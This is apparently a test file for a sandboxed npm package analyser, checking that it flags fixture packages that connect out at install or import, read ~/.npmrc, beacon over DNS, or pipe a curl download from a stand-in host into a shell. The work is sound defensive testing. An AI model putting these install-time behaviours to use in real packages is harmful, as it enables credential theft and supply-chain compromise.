import test from 'ava';
import type { AnalysisReport } from '../../src/report/index.js';
import { fixturePackage, runCli } from '../helpers/run-cli.js';

async function analyzeJson(spec: string): Promise<{ exitCode: number | null; report: AnalysisReport; stderr: string }> {
  const result = await runCli(['analyze', spec, '--format', 'json']);
  let report: AnalysisReport;
  try {
    report = JSON.parse(result.stdout) as AnalysisReport;
  } catch {
    throw new Error(`no JSON report (exit ${result.exitCode}); stderr:\n${result.stderr}`);
  }
  return { exitCode: result.exitCode, report, stderr: result.stderr };
}

function phaseStatuses(report: AnalysisReport): Record<string, string> {
  return Object.fromEntries(report.phases.map((phase) => [phase.name, phase.status]));
}

test('a benign package passes with every phase completed and no findings', async (t) => {
  const { exitCode, report } = await analyzeJson(fixturePackage('benign'));
  t.is(report.verdict, 'pass');
  t.is(exitCode, 0);
  t.deepEqual(phaseStatuses(report), { install: 'completed', import: 'completed', execute: 'completed' });
  t.deepEqual(report.findings, []);
  t.deepEqual(report.observed.network, []);
  t.is(report.package.source, 'directory');
});

test('a postinstall that connects out fails with a network finding in the install phase', async (t) => {
  const { exitCode, report } = await analyzeJson(fixturePackage('postinstall-connect'));
  t.is(report.verdict, 'fail');
  t.is(exitCode, 1);
  const finding = report.findings.find((f) => f.rule === 'network-connect');
  t.truthy(finding, JSON.stringify(report.findings));
  t.is(finding?.category, 'network');
  t.is(finding?.phase, 'install');
  t.deepEqual(finding?.attribution, { package: 'dynaudit-fixture-postinstall-connect', via: 'lifecycle-script' });
  t.true(finding?.evidence.some((line) => line.includes('203.0.113.10:443')));
  t.deepEqual(report.installScripts, [{ name: 'dynaudit-fixture-postinstall-connect', version: '1.0.0' }]);
});

test('an install script that reads ~/.npmrc and sends nothing warns with a credential-access finding', async (t) => {
  const { exitCode, report } = await analyzeJson(fixturePackage('install-reads-npmrc'));
  t.is(exitCode, 0);
  t.is(report.verdict, 'warn');
  const finding = report.findings.find((f) => f.category === 'credential-access');
  t.like(finding, { rule: 'npm-config-read', severity: 'medium', phase: 'install' });
  t.true(finding?.evidence.some((line) => line.includes('/home/runner/.npmrc')));
});

test('a package that connects out when required fails with a network finding in the import phase', async (t) => {
  const { exitCode, report } = await analyzeJson(fixturePackage('require-connect'));
  t.is(exitCode, 1);
  const finding = report.findings.find((f) => f.rule === 'network-connect');
  t.is(finding?.phase, 'import');
  t.deepEqual(finding?.attribution, { package: 'dynaudit-fixture-require-connect', via: 'import', call: 0, step: 'load', argument: 'require' }, 'the require() loading, the first step');
  t.true(finding?.evidence.some((line) => line.includes('198.51.100.7:8080')));
});

test('an ESM-only package is loaded with import() and its DNS lookup at import fails it', async (t) => {
  const { exitCode, report } = await analyzeJson(fixturePackage('esm-only-import-dns'));
  t.is(exitCode, 1);
  t.is(phaseStatuses(report).import, 'completed');
  const finding = report.findings.find((f) => f.category === 'dns');
  t.is(finding?.phase, 'import');
  t.true(report.observed.dns.some((query) => query.name === 'beacon.dynaudit-test.example'), JSON.stringify(report.observed.dns));
});

test('a postinstall that pipes curl into a shell is reported as a download and a spawn', async (t) => {
  const { exitCode, report } = await analyzeJson(fixturePackage('postinstall-downloader'));
  t.is(exitCode, 1);
  const categories = new Set(report.findings.map((f) => f.category));
  t.true(categories.has('download'));
  t.true(categories.has('spawn'));
  const download = report.findings.find((f) => f.category === 'download');
  t.true(download?.evidence.some((line) => line.includes('curl -fsS http://stage2.dynaudit-test.example/x.sh')));
});
